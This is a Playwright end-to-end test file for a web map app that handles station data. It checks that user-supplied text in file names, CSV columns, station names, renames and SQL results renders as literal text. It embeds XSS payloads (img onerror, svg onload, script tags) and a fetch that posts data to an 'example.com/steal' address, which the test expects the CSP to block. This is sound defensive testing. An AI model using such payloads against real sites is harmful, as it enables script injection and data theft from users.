/**
 * User text is text, never markup (issue 9, acceptance 4). Payloads go in through every entry
 * point a user has: a file name, a column name and a station name in an imported CSV, a station
 * renamed in the editor, the map tooltip, and a SQL result's values and column names. Nothing
 * may run (no dialog, no handler, no element created) and each payload shows as literal text.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { openApp, screenPointOf, type RecordedPage } from './browser';

let browser: Browser;
let session: RecordedPage;
const baseUrl = inject('baseUrl');
const dialogs: string[] = [];

const FILE = `<img src=x onerror=alert('file')>.csv`;
const COLUMN = `<img src=x onerror=alert('column')>`;
const NAME = `<img src=x onerror="window.__xss=1;alert('name')">`;
const RENAMED = `<svg onload=alert('rename')></svg>`;
const CELL = `<img src=x onerror=alert('sql')>`;
const HEADER = `<b onmouseover=alert('header')>h</b>`;
const AT = { lon: 113.5, lat: 23.0 };

beforeAll(async () => {
  ({ browser, session } = await openApp(baseUrl));
  session.page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

afterAll(async () => {
  await browser?.close();
});

describe('no user string becomes HTML', () => {
  it('import: file name, column name and station name show as text', async () => {
    const { page } = session;
    const csv = `名称,经度,纬度,${COLUMN}\n"${NAME.replace(/"/g, '""')}",${AT.lon},${AT.lat},"<script>alert('cell')</script>"\n`;
    await page.locator('[data-testid="import-input"]').setInputFiles({ name: FILE, mimeType: 'text/csv', buffer: Buffer.from(csv) });
    const dialog = page.locator('[data-testid="mapping-dialog"]');
    await dialog.waitFor();
    expect(await dialog.textContent()).toContain(FILE);
    expect(await page.locator('[data-testid="import-preview"]').textContent()).toContain(COLUMN);
    await page.locator('[data-testid="import-kind"]').selectOption('stations');
    await page.locator('input[name="import-mode"]').nth(1).check({ force: true });
    await page.locator('[data-testid="import-start"]').click();
    await page.locator('[data-testid="import-report"]').waitFor();
    expect(await page.textContent('[data-testid="import-report"]')).toContain(FILE);
    await expect.poll(() => page.textContent('[data-testid="station-count"]')).toBe('28');
  });

  it('map tooltip and station editor show the name as text, and a rename stays text', async () => {
    const { page } = session;
    const point = await screenPointOf(page, AT.lon, AT.lat);
    await page.mouse.move(point.x, point.y);
    const tooltip = page.locator('.atlas-tooltip');
    await tooltip.waitFor({ state: 'visible', timeout: 20_000 });
    expect(await tooltip.innerText()).toContain(NAME);
    await page.mouse.click(point.x, point.y);
    await expect.poll(() => page.textContent('[data-testid="selected-station-name"]')).toBe(NAME);
    await page.locator('[data-testid="station-name-input"]').fill(RENAMED);
    await page.locator('[data-testid="station-save"]').click();
    await expect.poll(() => page.textContent('[data-testid="selected-station-name"]')).toBe(RENAMED);
    await page.mouse.move(5, 5);
    await page.mouse.move(point.x, point.y);
    await expect.poll(() => tooltip.innerText()).toContain(RENAMED);
  });

  it('SQL results: values and column names show as text', async () => {
    const { page } = session;
    const quoted = (s: string) => `'${s.replace(/'/g, "''")}'`;
    await page.locator('[data-testid="sql-editor"]').fill(`SELECT ${quoted(CELL)} AS "${HEADER}", name FROM stations WHERE id LIKE 'IMP-%'`);
    await page.locator('[data-testid="sql-run"]').click();
    const result = page.locator('[data-testid="sql-result"]');
    await result.waitFor();
    const text = await result.textContent();
    expect(text).toContain(CELL);
    expect(text).toContain(HEADER);
    expect(text).toContain(RENAMED);
  });

  it('ran nothing: no dialog, no flag, no element from any payload, no error', async () => {
    const { page } = session;
    await page.waitForTimeout(500);
    expect(dialogs).toEqual([]);
    const injected = await page.evaluate(() => ({
      flag: (window as unknown as { __xss?: number }).__xss ?? null,
      elements: document.querySelectorAll('img[src="x"], svg[onload], b[onmouseover], script:not([src]):not([type])').length,
    }));
    expect(injected).toEqual({ flag: null, elements: 0 });
    expect(session.consoleErrors).toEqual([]);
    expect(session.foreignRequests).toEqual([]);
  });

  it('the CSP blocks an injected request to another host: it never leaves the page', async () => {
    const { page } = session;
    const outcome = await page.evaluate(() =>
      fetch('https://example.com/steal?pings=1', { method: 'POST', body: 'driver traces' }).then(
        () => 'sent',
        (error: unknown) => `blocked: ${String(error)}`,
      ),
    );
    expect(outcome).toMatch(/^blocked/);
    const violations = await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations);
    expect(violations.some((v) => v.startsWith('connect-src') && v.includes('example.com'))).toBe(true);
    expect(session.foreignRequests).toEqual([]);
  });
});
